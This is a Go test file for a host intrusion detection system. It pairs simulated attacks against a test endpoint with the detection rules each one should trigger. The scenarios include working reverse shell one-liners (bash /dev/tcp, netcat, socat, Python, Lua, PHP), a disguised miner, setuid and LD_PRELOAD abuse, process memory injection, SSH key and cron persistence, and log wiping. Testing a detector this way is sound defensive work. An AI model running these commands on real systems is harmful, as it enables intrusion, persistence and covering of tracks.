package attack

import (
	"strings"
	"testing"
	"time"

	"github.com/bearcat-hids/bearcat/test/scenario"
)

// Names of rules that several cases use.
const (
	shellOnSocket   = "Shell connected to a network socket"
	shellByTool     = "Shell started by a network tool"
	oneLiner        = "Reverse shell one-liner"
	commandOnSocket = "Command of a shell runs on a network socket"
	shellConnects   = "Shell connects to the internet"
	inlineConnects  = "Inline program connects to the internet"
	fifoShell       = "Shell fed from a named pipe"
	fifoTool        = "Network tool on a named pipe"
	noTerminal      = "Interactive shell without a terminal"
	fromMemory      = "Program run from memory"
	userMemory      = "BPF program that writes to memory of processes"
	bpfFromTmp      = "BPF program loaded from a temporary folder"
	scheduleChanged = "Job schedule changed without a login"
	accountsChanged = "Account or login file changed without a login"
	startupChanged  = "Startup file changed without a login"
	setuidElsewhere = "Set-uid file made outside the system's directories"

	joinedByTool     = "Reverse shell through a network tool"
	joinedByProgram  = "Shell driven by a connected program"
	joinedByTerminal = "Terminal of a shell joined to an outgoing connection"
	joinedByAccept   = "Shell joined to an accepted connection"
	runsForOthers    = "Interpreter runs commands for a connection"
)

// joined are the rules on shells that are joined to a connection by others.
var joined = []string{joinedByTool, joinedByProgram, joinedByTerminal, joinedByAccept, runsForOthers}

// cases are all attacks, in the order of docs/detection.md. Ids are those of
// the page; a letter behind one is another form of the same attack.
func cases() []attackCase {
	out := shellCases()
	for _, more := range [][]attackCase{serviceCases(), privilegeCases(), kernelCases(), libraryCases(), memoryCases(), hidingCases(), traceCases(), rootkitCases()} {
		out = append(out, more...)
	}
	return out
}

// stays makes the far end of a script keep the shell for a while, as an intruder
// does: one that ends at once may be gone before the agent has looked at it.
func stays(s scenario.Script) scenario.Script {
	s.Say = "id; sleep 3; exit\n"
	return s
}

// at makes a script.
func at(text string, ports ...int) scenario.Script {
	return scenario.Script{Text: strings.TrimSpace(text), Ports: ports, Limit: 40 * time.Second}
}

func shellCases() []attackCase {
	return []attackCase{
		{id: "R1", Script: at(`bash -c '/bin/bash > /dev/tcp/$IP/9999 0>&1 2>&1'`, 9999),
			rule: shellOnSocket, also: []string{oneLiner, shellConnects, commandOnSocket}},
		{id: "R2", needs: []string{"nc.traditional"}, fails: true, Script: stays(at(`nc.traditional $IP 7777 | /bin/bash | nc.traditional $IP 8888`, 7777, 8888)),
			rule: joinedByTool, also: []string{joinedByProgram, joinedByAccept}},
		{id: "R3", needs: []string{"openssl"}, fails: true, // the other end speaks no TLS: the shell is left waiting
			Script: at(`mkfifo f; timeout 5 sh -c '/bin/sh -i <f 2>&1 | openssl s_client -quiet -connect $IP:666 >f'`, 666),
			rule:   joinedByTool, also: []string{fifoShell, fifoTool, noTerminal, oneLiner}},
		{id: "R4", needs: []string{"nc.traditional"}, Script: at(`nc.traditional -e /bin/bash $IP 6060`, 6060),
			rule: shellOnSocket, also: []string{shellByTool, commandOnSocket}},
		{id: "R4b", needs: []string{"ncat"}, fails: true, Script: at(`timeout 5 ncat -e /bin/bash $IP 6068`, 6068),
			rule: shellByTool, also: []string{shellOnSocket, commandOnSocket, joinedByTool}},
		{id: "R5", needs: []string{"socat"}, fails: true, Script: at(`timeout 8 socat exec:"bash -li",pty,stderr,setsid,sigint,sane tcp:$IP:6060`, 6060),
			rule: joinedByTerminal, also: []string{shellByTool, joinedByTool}},
		{id: "R6", needs: []string{"nc.traditional"}, fails: true,
			Script: stays(at(`mkfifo g; timeout 8 sh -c 'cat g|/bin/sh -i 2>&1|nc.traditional $IP 6061 >g'`, 6061)),
			rule:   joinedByTool, also: []string{fifoTool, fifoShell, noTerminal, oneLiner, joinedByAccept}},
		{id: "R7", needs: []string{"nc.traditional"}, fails: true,
			Script: stays(at(`mknod bp p; timeout 8 sh -c 'nc.traditional $IP 6062 0<bp | /bin/bash 1>bp 2>bp'`, 6062)),
			rule:   joinedByTool, also: []string{fifoTool, fifoShell, joinedByAccept}},
		{id: "R8", fails: true, Script: func() scenario.Script {
			s := at(`timeout 5 bash -c 'exec 5<>/dev/tcp/$IP/6063;cat <&5|while read l;do $l >&5 2>&1;done'`, 6063)
			s.Say = "id\n"
			return s
		}(), rule: commandOnSocket, also: []string{shellConnects, oneLiner, joinedByProgram}},
		{id: "R9", needs: []string{"telnet"}, fails: true, Script: stays(at(`sleep 8 | telnet $IP 6064 | /bin/bash | telnet $IP 5050`, 6064, 5050)),
			rule: joinedByTool, also: []string{joinedByProgram, joinedByAccept}},
		{id: "R10", needs: []string{"python3"}, fails: true,
			Script: at(`timeout 15 python3 -c 'import socket,os,pty;s=socket.create_connection((os.environ["IP"],10006));[os.dup2(s.fileno(),i) for i in (0,1,2)];pty.spawn("/bin/bash")'`, 10006),
			rule:   joinedByTerminal, also: []string{oneLiner, inlineConnects, shellOnSocket, joinedByProgram}}, // what the shell starts at its login
		{id: "R11", needs: []string{"python3"}, Script: func() scenario.Script {
			s := at(`timeout 15 python3 -c 'import os,socket,subprocess as p;s=socket.create_connection((os.environ["IP"],6065));s.send(p.run(s.recv(99),shell=True,capture_output=True).stdout)'`, 6065)
			s.Say = "id\n"
			return s
		}(), rule: runsForOthers, also: []string{inlineConnects}},
		{id: "R12", needs: []string{"lua"}, Script: func() scenario.Script {
			s := at(`lua -e 'local s=require("socket").tcp();s:connect(os.getenv("IP"),6066);local f=io.popen(s:receive());s:send(f:read("*a"))'`, 6066)
			s.Say = "id\n"
			return s
		}(), rule: runsForOthers, also: []string{inlineConnects}},
		{id: "R13", needs: []string{"php"}, Script: at(`php -r '$s=fsockopen(getenv("IP"),6067);exec("/bin/sh -i <&3 >&3 2>&3");'`, 6067),
			rule: shellOnSocket, also: []string{oneLiner, inlineConnects, commandOnSocket, runsForOthers}},
		{id: "R13b", needs: []string{"python3"}, Script: at(`python3 -c 'import socket;socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_ICMP)'`),
			rule: "Raw socket of a shell, interpreter or stray program"},
		{id: "N1", Script: at(`bash -c 'echo >/dev/tcp/$BAD/4444'`, 4444),
			rule: "Connection to a known bad address", also: []string{shellConnects}},
		{id: "N2", Script: at(`bash -c 'for p in {1..130};do (echo >/dev/tcp/$IP/$p) 2>/dev/null;done; true'`),
			rule: "Port scan from this host", also: []string{shellConnects}},
	}
}

func serviceCases() []attackCase {
	return []attackCase{
		{id: "W1", Script: at(`cp /bin/bash php-fpm; ./php-fpm -c 'sh -c id; true'`),
			rule: "Shell started by a web server", also: []string{"Discovery command under a web server"}},
		{id: "W2", needs: []string{"setpriv"}, Script: at(`mkdir -p /var/www/html; chown www-data /var/www/html
			setpriv --reuid=www-data --regid=www-data --clear-groups sh -c 'echo x >/var/www/html/s.php'`),
			rule: "Web server wrote a program into its pages"},
		{id: "W2b", Script: at(`mkdir -p /srv/www; cp /bin/bash php-fpm; ./php-fpm -c 'echo x >/srv/www/u.tmp; mv /srv/www/u.tmp /srv/www/u.php; true'`),
			rule: "Web server wrote a program into its pages"},
		{id: "W2c", Script: at(`cp /bin/bash php-fpm; ./php-fpm -c 'echo x >/etc/cron.d/w; rm /etc/cron.d/w; true'`),
			rule: "Web server wrote where jobs, logins or libraries are defined", also: []string{scheduleChanged}},
		{id: "M1", needs: []string{"python3"}, Script: at(`cp "$(readlink -f /usr/bin/python3)" redis-server; mkdir -p /var/spool/cron
			./redis-server -c 'import os;os.chdir("/var/spool/cron");open("temp-1.rdb","w").write("x");os.rename("temp-1.rdb","root")'; rm /var/spool/cron/root`),
			rule: "Database wrote where jobs, logins or libraries are defined", also: []string{scheduleChanged}},
		{id: "M1b", needs: []string{"python3"}, Script: at(`cp "$(readlink -f /usr/bin/python3)" redis-server; mkdir -p /var/www/html
			./redis-server -c 'import os;os.chdir("/var/www/html");open("temp-2.rdb","w").write("x");os.rename("temp-2.rdb","r.php")'`),
			rule: "Database wrote a program into web pages"},
		{id: "M2", fails: true, Script: at(`cp /usr/bin/yes xmrig; timeout 1 ./xmrig -o stratum+tcp://$IP:3333 >/dev/null`),
			rule: "Cryptocurrency miner"},
		{id: "M2b", needs: []string{"python3"}, Script: at(`cp "$(readlink -f /usr/bin/python3)" systemd-helper
			./systemd-helper -S -E <<<'import os,socket;socket.create_connection((os.environ["IP"],3333))'`, 3333),
			rule: "Stray program connects to a mining port"},
		{id: "M2c", needs: []string{"python3", "modprobe"}, Script: at(`modprobe msr && python3 -c 'open("/dev/cpu/0/msr","r+b",buffering=0).close()'`),
			rule: "Processor registers opened for writing"},
	}
}

func privilegeCases() []attackCase {
	return []attackCase{
		{id: "P1", needs: []string{"python3", "setpriv"}, fails: true, // su refuses
			Script: at(`setpriv --reuid=65534 --regid=65534 --clear-groups python3 -c 'import ctypes;c=ctypes;a=(c.c_char_p*1)(None);c.CDLL(None).execve(b"/usr/bin/su",a,a)'`),
			rule:   "Set-uid program started without arguments"},
		{id: "P2", needs: []string{"python3", "setpriv"},
			Script: at(`setpriv --reuid=65534 --regid=65534 --clear-groups python3 -c 'import os;r,w=os.pipe();f=os.open("/etc/passwd",0);os.splice(f,w,1);os.write(w,b"x")'`),
			rule:   "File spliced as Dirty Pipe does"},
		{id: "P3", needs: []string{"setpriv"}, Script: at(`cp /bin/bash b; chmod 755 .; chmod u+s b; setpriv --reuid=65534 --regid=65534 --clear-groups ./b -p -c id; true`),
			rule: setuidElsewhere, also: []string{"Set-uid program in an unusual place"}},
		{id: "P3c", needs: []string{"python3"}, Script: at(`cp /bin/true t; python3 -c 'import os;os.setxattr("t","security.capability",bytes([1,0,0,2,128,0,0,0])+bytes(12))'`),
			rule: "File capability set"},
		{id: "P3b", Script: at(`cp /bin/dash dash; chmod 4755 dash`), rule: "Set-uid bit set on a shell or interpreter", also: []string{setuidElsewhere}},
	}
}

func libraryCases() []attackCase {
	return []attackCase{
		{id: "L1", Script: at(`cp "$(ls /lib/x86_64-linux-gnu/libm.so.6)" p.so; LD_PRELOAD=$PWD/p.so /bin/true`), rule: "Library preloaded from a temporary folder"},
		{id: "L2", Script: at(`touch /etc/ld.so.preload; rm /etc/ld.so.preload`), rule: "Preload list of the loader changed"},
		{id: "L2b", Script: at(`: >list; mv list /etc/ld.so.preload; rm /etc/ld.so.preload`), rule: "Preload list of the loader changed"},
		{id: "L3", Script: at(`cp /lib64/ld-linux-x86-64.so.2 l; cp l /usr/lib/libzz.so.1; rm /usr/lib/libzz.so.1`), rule: "System library written"},
		{id: "L3b", Script: at(`cp /lib64/ld-linux-x86-64.so.2 l; mv l /usr/lib/x86_64-linux-gnu/security/pam_zz.so; rm /usr/lib/x86_64-linux-gnu/security/pam_zz.so`), rule: "System library written"},
	}
}

func memoryCases() []attackCase {
	return []attackCase{
		{id: "I1", needs: []string{"python3"}, Script: at(`sleep 60 & p=$!; python3 -c 'import ctypes,sys,os;l=ctypes.CDLL(None);p=int(sys.argv[1]);l.ptrace(16,p,0,0);os.waitpid(p,0x40000000);l.ptrace(17,p,0,0)' $p; kill $p`),
			rule: "Process takes control of another"},
		{id: "I1b", needs: []string{"strace"}, fails: true, Script: at(`sleep 60 & p=$!; timeout 2 strace -p $p; kill $p`), rule: "Debugger attached to a running process"},
		{id: "I2", needs: []string{"python3"}, Script: at(`sleep 60 & p=$!; python3 -c "open('/proc/$p/mem','r+b').close()"; kill $p`),
			rule: "Memory of another process opened for writing"},
		{id: "I2b", needs: []string{"python3"}, Script: at(`sleep 60 & p=$!; sleep 0.5; python3 - $p <<'P'
import ctypes, sys
pid = int(sys.argv[1])
area = next(l for l in open("/proc/%d/maps" % pid) if " rw-p " in l)
start = int(area.split("-")[0], 16)
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
b = ctypes.create_string_buffer(1)
here, there = iovec(ctypes.cast(b, ctypes.c_void_p), 1), iovec(start, 1)
l = ctypes.CDLL(None)
assert l.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) == 1
assert l.process_vm_writev(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) == 1
P
r=$?; kill $p; exit $r`), rule: "Memory of another process written", also: []string{"Memory of another process read"}},
		{id: "F1", needs: []string{"python3"}, Script: at(`python3 -c 'import os;f=os.memfd_create("x");os.write(f,open("/bin/uname","rb").read());os.execve(f,["k","-a"],{})'`), rule: fromMemory},
		{id: "F2", Script: at(`cp /bin/ls /dev/shm/bad && /dev/shm/bad -l /dev/shm; rm /dev/shm/bad`), rule: "Program run from a shared memory folder"},
		{id: "F3", needs: []string{"python3"}, Script: at(`cat /bin/uname | python3 -c 'import os,sys;f=os.memfd_create("e");os.write(f,sys.stdin.buffer.read());os.execve(f,["e"],{})'`), rule: fromMemory},
	}
}

func hidingCases() []attackCase {
	return []attackCase{
		{id: "H1", Script: at(`sleep 99 & p=$!; mkdir d; mount -o bind d /proc/$p && umount /proc/$p; r=$?; kill $p; exit $r`), rule: "Mount over a process's entry in proc"},
		{id: "H2", needs: []string{"python3"}, Script: at(`python3 -c 'import ctypes;ctypes.CDLL(None).prctl(15,b"kworker/0:1",0,0,0)'`), rule: "Process renamed to look like a kernel thread"},
		{id: "H2b", needs: []string{"python3"}, Script: at(`python3 -c 'import ctypes as c;b=c.create_string_buffer(64);assert c.CDLL(None).prctl(35,8,c.c_void_p(c.addressof(b)),0,0)==0'`),
			rule: "Process changes what proc shows of it"},
		{id: "H3", Script: at(`bash -c 'exec -a "[kworker/0:0]" sleep 0.1'`), rule: "Program posing as a kernel thread"},
	}
}

// login makes what is started after it count as done by somebody who is
// logged in.
const login = "echo 0 >/proc/self/loginuid\n"

func traceCases() []attackCase {
	return []attackCase{
		{id: "D1", Script: at(`echo x >/etc/cron.d/t; rm /etc/cron.d/t`), rule: scheduleChanged},
		{id: "D1b", Script: at(`echo x >unit; mv unit /etc/systemd/system/t.service; rm /etc/systemd/system/t.service`), rule: startupChanged},
		{id: "D1c", Script: at(`mkdir -p ~/.ssh; echo key >>~/.ssh/authorized_keys`), rule: accountsChanged},
		{id: "D1d", Script: at(`echo x >/etc/profile.d/t.sh; rm /etc/profile.d/t.sh; echo x >/etc/sudoers.t; mkdir -p /etc/sudoers.d; ln /etc/sudoers.t /etc/sudoers.d/t; rm /etc/sudoers.t /etc/sudoers.d/t`),
			rule: accountsChanged, also: []string{startupChanged}},
		{id: "D1e", Script: at(login + `bash -c 'echo x >/etc/cron.d/t; rm /etc/cron.d/t'`), rule: "Job schedule changed by somebody logged in"},
		{id: "D1f", Script: at(login + `bash -c 'echo x >/etc/profile.d/t.sh; rm /etc/profile.d/t.sh'`), rule: "Startup file changed by somebody logged in"},
		{id: "D1g", Script: at(login + `mkdir -p ~/.ssh; bash -c 'echo key >>~/.ssh/authorized_keys'`), rule: "Account or login file changed by somebody logged in"},
		{id: "D1h", Script: at(`mkdir d /etc/sudoers.d 2>/dev/null; mount --bind d /etc/sudoers.d && umount /etc/sudoers.d`), rule: "Mount over files that decide about logins or startup"},
		{id: "D2", Script: at(`ln -sf /dev/null ~/.bash_history`), rule: "Shell history removed or redirected", also: []string{"History or login record destroyed"}},
		{id: "D2b", Script: at(`echo x >/var/log/auth.log; : >/var/log/auth.log; rm /var/log/auth.log`), rule: "System log emptied or removed", also: []string{"History or login record destroyed"}},
	}
}

// TestCasesAreNamedOnce holds the table to its form.
func TestCasesAreNamedOnce(t *testing.T) {
	seen := map[string]bool{}
	for _, c := range cases() {
		if seen[c.id] || c.rule == "" || (c.Text == "") == (c.do == nil) {
			t.Errorf("case %s stands twice, has no rule, or does not have one thing to do", c.id)
		}
		seen[c.id] = true
	}
}
